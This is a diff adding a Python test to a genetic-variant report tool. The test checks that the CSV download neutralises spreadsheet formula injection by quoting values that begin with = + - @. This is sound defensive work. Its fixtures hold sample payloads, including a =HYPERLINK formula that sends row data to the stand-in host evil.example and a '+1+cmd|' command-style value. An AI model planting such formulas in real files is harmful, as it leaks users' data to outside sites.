@@ -266,3 +266,25 @@ def test_rows_without_a_weight_are_counted_by_their_state(tmp_path: Path, factor
     assert module.tally == Tally(total=2, protective=1, risk=0, neutral=1, net_weight=0.0)
     html = render_html(build_report_data(sample_dir))
     assert re.search(r'data-figure="superhuman\.protective"[^>]*>1<', html), "the module's protective count"
+
+
+def test_the_csv_download_keeps_module_text_from_running_as_a_formula(tmp_path: Path, factory) -> None:
+    """A module's conclusion or gene starting with = + - @ was written as is: a spreadsheet opening the CSV ran it
+    (=HYPERLINK sends the row to any site when clicked). The CSV quotes it as text, as the report's own export does;
+    numbers, negative weights included, and the Parquet stay as they are."""
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"more")'
+    rows = [
+        factory.matched_row(
+            "coronary", "rs1", -0.5, conclusion=formula, gene="@SUM(1+1)", category="+1+cmd|"
+        ),
+        factory.matched_row("coronary", "rs2", 0.25, conclusion="-2+3", gene="+GENE", category="-"),
+    ]
+    sample_dir, _ = factory.write_sample(tmp_path, modules={"coronary": {}}, rows={"coronary": rows})
+    out = write_report(build_report_data(sample_dir), sample_dir / "reports")
+    csv = pl.read_csv(out["coronary_variants.csv"], infer_schema=False).sort("rsid")
+    assert csv["conclusion"].to_list() == ["'" + formula, "'-2+3"]
+    assert csv["gene"].to_list() == ["'@SUM(1+1)", "'+GENE"]
+    assert csv["category"].to_list() == ["'+1+cmd|", "'-"]
+    assert csv["weight"].to_list() == ["-0.5", "0.25"]
+    parquet = pl.read_parquet(out["coronary_variants.parquet"]).sort("rsid")
+    assert parquet["conclusion"].to_list() == [formula, "-2+3"]
